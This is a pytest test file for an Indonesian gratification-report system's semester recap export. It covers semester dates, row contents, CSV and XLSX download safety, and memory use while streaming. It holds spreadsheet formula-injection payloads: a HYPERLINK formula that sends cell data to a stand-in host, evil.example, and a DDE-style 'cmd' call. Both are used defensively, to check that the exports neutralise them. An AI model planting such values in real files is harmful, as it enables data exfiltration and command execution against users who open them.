"""Semester recap: which reports fall in a semester, the labelled rows, hostile cells
neutralised in CSV and kept as text in XLSX, and streaming in memory that does not grow."""
from __future__ import annotations

import csv
import io
import re
import tracemalloc
import zipfile
from datetime import date, datetime

import pytest
from sqlalchemy import insert, select

from gratifikasi.auth.services import find_officer
from gratifikasi.exports import RECAP_HEADER, Semester, neutralise, recap_rows
from gratifikasi.extensions import db
from gratifikasi.kpk import services
from gratifikasi.models import AuditEntry, CaseFile, CaseKind, GiftObject, GratificationReport, KpkDecision, Role
from gratifikasi.models.report import CASE_COLUMNS, IDENTITY_COLUMNS, REPORT_RECORD_TYPE
from gratifikasi.rules.report_fields import JenisLaporan, JenisObjek
from tests.helpers import login, make_officer
from tests.kpk.helpers import Item, ReportSpec, ensure_unit, make_report

HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "@SUM(1)")

# The form's label, in Indonesian.
RELATED_PARTY = "Pihak terkait tugas (penyedia barang/jasa, penerima layanan, pihak yang diawasi/diperiksa)"


def test_semesters_are_january_to_june_and_july_to_december():
    first, second = Semester(2026, 1), Semester(2026, 2)
    assert (first.first_day, first.last_day) == (date(2026, 1, 1), date(2026, 6, 30))
    assert (second.first_day, second.last_day) == (date(2026, 7, 1), date(2026, 12, 31))
    assert Semester.containing(date(2026, 6, 30)) == first and Semester.containing(date(2026, 7, 1)) == second
    assert first.label == "Semester 1 (Januari–Juni) 2026" and second.slug == "2026-s2"
    for bad in ((2026, 3), (1999, 1), (2101, 2)):
        with pytest.raises(ValueError):
            Semester(*bad)


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+62 812", "'+62 812"), ("-5", "'-5"), ("@SUM(1)", "'@SUM(1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Dinas Kesehatan", "Dinas Kesehatan"), ("", ""),
    (-5, -5), (1_500_000, 1_500_000), (None, None), ("a=b", "a=b"),
])
def test_neutralise_prefixes_only_text_that_could_start_a_formula(value, expected):
    assert neutralise(value) == expected


def test_recap_lists_each_object_of_the_semester_by_opd_with_forwarding_and_sk(upg_crew, frozen_clock):
    frozen_clock.now = datetime(2026, 8, 3, 3, 0)
    with upg_crew.app.test_request_context():
        upg = upg_crew.officer("upg")
        a = make_report(ReportSpec(unit_code="DPMPTSP", received_on=date(2026, 6, 30)))
        make_report(ReportSpec(unit_code="DINKES", unit_name="Dinas Kesehatan", received_on=date(2026, 1, 2),
                               tanggal_penerimaan=date(2025, 12, 29), status="penolakan_dicatat",
                               jenis=JenisLaporan.PENOLAKAN,
                               items=(Item(JenisObjek.VOUCHER, 500_000, "Voucher belanja"),)))
        make_report(ReportSpec(unit_code="DPMPTSP", received_on=date(2026, 7, 1)))  # semester 2
        make_report(ReportSpec(unit_code="DPMPTSP", received_on=date(2025, 12, 31),
                               tanggal_penerimaan=date(2025, 12, 30)))  # last year
        report = db.session.get(GratificationReport, a)
        services.record_forwarding(report, upg, "GOL-UPG/2026/00417", date(2026, 7, 2))
        services.record_decision(db.session.get(GratificationReport, a), upg, "SK-88/2026", date(2026, 7, 30),
                                 KpkDecision.milik_negara)
        rows = list(recap_rows(db.session, Semester(2026, 1), viewer_id=upg.id))
    assert len(RECAP_HEADER) == len(rows[0]) == 18
    dpmptsp = ("DPMPTSP", "Dinas Penanaman Modal dan PTSP")
    receipt = "Laporan penerimaan (pemberian telah diterima)"
    assert rows == [
        ("DINKES", "Dinas Kesehatan", "GRT-2026-000002", "Laporan penolakan (pemberian ditolak)", date(2025, 12, 29),
         date(2026, 1, 2), "Terkait tugas pelayanan", RELATED_PARTY, 1, "Voucher", 500_000, "Disimpan pelapor",
         "Penolakan dicatat", None, None, None, None, None),
        (*dpmptsp, "GRT-2026-000001", receipt,
         date(2026, 2, 20), date(2026, 6, 30), "Terkait tugas pelayanan",
         RELATED_PARTY, 1, "Uang atau setara uang", 1_500_000,
         "Disimpan pelapor", "Ditetapkan milik negara", "GOL-UPG/2026/00417", date(2026, 7, 2), "SK-88/2026",
         date(2026, 7, 30), "Milik negara"),
        (*dpmptsp, "GRT-2026-000001", receipt,
         date(2026, 2, 20), date(2026, 6, 30), "Terkait tugas pelayanan",
         RELATED_PARTY, 2, "Barang", 2_750_000,
         "Disimpan pelapor", "Ditetapkan milik negara", "GOL-UPG/2026/00417", date(2026, 7, 2), "SK-88/2026",
         date(2026, 7, 30), "Milik negara"),
    ]


def _hostile_report(app, frozen_clock) -> None:
    frozen_clock.now = datetime(2026, 5, 4, 3, 0)
    with app.test_request_context():
        upg = find_officer("upg")
        # OPD code and name as an admin might have typed them.
        report_id = make_report(
            ReportSpec(unit_code=HOSTILE[1][:32], unit_name=HOSTILE[1], received_on=date(2026, 3, 2))
        )
        services.record_forwarding(db.session.get(GratificationReport, report_id), upg, HOSTILE[2], date(2026, 3, 3))
        services.record_decision(db.session.get(GratificationReport, report_id), upg, HOSTILE[0], date(2026, 4, 1),
                                 KpkDecision.milik_penerima)


def test_csv_download_neutralises_hostile_cells(upg_crew, frozen_clock):
    app = upg_crew.app
    _hostile_report(app, frozen_clock)
    client = app.test_client()
    login(client, "upg")
    response = client.get("/perkara/gratifikasi/rekap?tahun=2026&semester=1&format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="rekap-gratifikasi-2026-s1.csv"'
    assert "no-store" in response.headers["Cache-Control"]
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeffKode OPD,Nama OPD,Nomor registrasi")
    header, first, second = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert first[0] == first[1] == "'" + HOSTILE[1]
    assert first[13] == "'" + HOSTILE[2] and first[15] == "'" + HOSTILE[0]
    assert first[10] == "1500000" and first[4] == "2026-02-20"
    for row in (first, second):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    with app.test_request_context():
        entry = db.session.execute(select(AuditEntry).where(AuditEntry.action == "export.semester_recap")).scalar_one()
        assert entry.object_id == "2026-s1" and entry.details == {"format": "csv"}


def test_xlsx_download_keeps_hostile_cells_as_plain_text(upg_crew, frozen_clock):
    app = upg_crew.app
    _hostile_report(app, frozen_clock)
    client = app.test_client()
    login(client, "upg")
    response = client.get("/perkara/gratifikasi/rekap?tahun=2026&semester=1&format=xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    with zipfile.ZipFile(io.BytesIO(response.data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        styles = book.read("xl/styles.xml").decode()
        names = book.namelist()
    assert "<f>" not in sheet and "<f " not in sheet, "no formula anywhere"
    assert not any("externalLink" in n or "sheet1.xml.rels" in n for n in names), "no hyperlinks"
    cells = dict(re.findall(r'<c r="([A-Z]+\d+)"[^>]*t="inlineStr"[^>]*><is><t[^>]*>([^<]*)</t></is></c>', sheet))
    unescape = lambda s: s.replace("&amp;", "&").replace("&quot;", '"').replace("&lt;", "<").replace("&gt;", ">")  # noqa: E731
    assert unescape(cells["A2"]) == HOSTILE[1] and unescape(cells["N2"]) == HOSTILE[2]
    assert unescape(cells["P2"]) == HOSTILE[0]
    # Shown as text with Excel's invisible quote prefix (no visible apostrophe is added).
    assert 'quotePrefix="1"' in styles
    assert re.search(r'<c r="K2"[^>]*><v>1500000</v></c>', sheet), "values stay numbers"


def test_recap_form_shows_errors_and_keeps_the_choice(upg_crew):
    client = upg_crew.app.test_client()
    login(client, "upg")
    page = client.get("/perkara/gratifikasi/rekap").get_data(as_text=True)
    assert 'name="tahun"' in page and 'method="get"' in page
    response = client.get("/perkara/gratifikasi/rekap?tahun=1990&semester=2&format=csv")
    page = response.get_data(as_text=True)
    assert response.status_code == 400 and 'id="tahun-error">Tahun harus antara 2000 dan 2100' in page
    assert '<option selected value="2">' in page or 'value="2" selected' in page


# -- streaming -----------------------------------------------------------------------------


def _fill(first: int, last: int) -> None:
    """Reports ``first``..``last`` of one object each in semester 1 of 2026, inserted in bulk."""
    unit = ensure_unit("DPMPTSP", "Dinas Penanaman Modal dan PTSP")
    now = datetime(2026, 3, 2, 3, 0)
    blank = {column: b"x" for column in (*IDENTITY_COLUMNS, *CASE_COLUMNS)}
    for start in range(first, last + 1, 10_000):
        batch = range(start, min(start + 10_000 - 1, last) + 1)
        db.session.execute(insert(GratificationReport), [
            dict(id=i, tracking_year=2026, tracking_seq=i, tracking_number=f"GRT-2026-{i:06d}",
                 jenis_laporan="penerimaan", unit_id=unit.id,
                 hubungan_pemberi="sesama_pegawai",
                 jenis_peristiwa="ulang_tahun", tanggal_penerimaan=date(2026, 2, 27), received_on=date(2026, 3, 2),
                 submitted_at=now, minta_kompensasi=False, has_email=False, language="id",
                 access_locator=f"L{i:09d}", access_verifier=b"v", access_salt=b"s", access_wrapped_dek=b"w", **blank)
            for i in batch
        ])
        db.session.execute(insert(GiftObject), [
            dict(report_id=i, position=1, jenis_objek="barang", nilai_taksiran=250_000 + i,
                 lokasi_objek="disimpan_pelapor", uraian=b"x")
            for i in batch
        ])
        db.session.execute(insert(CaseFile), [  # the status lives in the case file
            dict(kind=CaseKind.gratifikasi, record_type=REPORT_RECORD_TYPE, record_id=i,
                 tracking_number=f"GRT-2026-{i:06d}", queue="upg", handling_unit_id=unit.id, unit_id=unit.id,
                 category="penerimaan", status="diterima_upg", status_changed_at=now, is_open=True,
                 received_on=date(2026, 3, 2), created_at=now)
            for i in batch
        ])
    db.session.commit()


def _warm_up(client, fmt: str) -> None:
    """The same download for an empty semester: first-use costs after a bulk insert (pooled
    connection, statement caches) are not the export's, so they stay out of the measure."""
    response = client.get(f"/perkara/gratifikasi/rekap?tahun=2026&semester=2&format={fmt}", buffered=False)
    for _chunk in response.response:
        pass
    response.close()


def _peak_while_streaming(client, fmt: str) -> tuple[int, int]:
    _warm_up(client, fmt)
    tracemalloc.start()
    try:
        response = client.get(f"/perkara/gratifikasi/rekap?tahun=2026&semester=1&format={fmt}", buffered=False)
        size = 0
        for chunk in response.response:  # consumed like a WSGI server: chunk by chunk, never kept
            size += len(chunk)
        response.close()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, size


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_streaming_100000_rows_needs_no_more_memory_than_1000(app, fmt):
    make_officer(app, "upg", Role.upg)
    client = app.test_client()
    login(client, "upg")
    with app.test_request_context():
        _fill(1, 1_000)
    small_peak, small_size = _peak_while_streaming(client, fmt)
    with app.test_request_context():
        _fill(1_001, 100_000)
    big_peak, big_size = _peak_while_streaming(client, fmt)
    print(f"\n{fmt}: 1,000 rows peak {small_peak / 1024:.0f} KiB ({small_size} B); "
          f"100,000 rows peak {big_peak / 1024:.0f} KiB ({big_size} B); ratio {big_peak / small_peak:.2f}")
    assert big_size > 50 * small_size, "the big file really holds 100 times the rows"
    assert big_peak < 3 * small_peak, (small_peak, big_peak)
